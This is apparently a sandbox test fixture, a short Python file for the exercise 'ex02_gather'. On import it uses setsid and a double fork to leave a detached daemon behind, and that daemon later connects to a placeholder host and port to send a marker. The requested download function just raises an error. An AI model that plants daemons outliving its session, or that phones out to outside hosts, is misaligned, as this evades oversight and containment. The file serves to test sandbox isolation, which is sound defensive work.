"""Laisse un démon derrière lui (setsid puis double fork) qui rappellera plus tard.

Exercice : ex02_gather
Attendu sans bac à sable : contenu
"""

import os
import sys

if hasattr(os, "fork"):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            code = (
                "import socket, time\n"
                "time.sleep(20)\n"
                "try:\n"
                "    socket.create_connection(('__HOTE__', __PORT__), timeout=3).sendall(b'demon')\n"
                "except OSError:\n"
                "    pass\n"
                "time.sleep(60)  # __MARQUEUR__\n"
            )
            os.execv(sys.executable, [sys.executable, "-c", code])
        os._exit(0)


async def telecharger_tout(urls, telecharger):
    raise RuntimeError("rien à rendre")
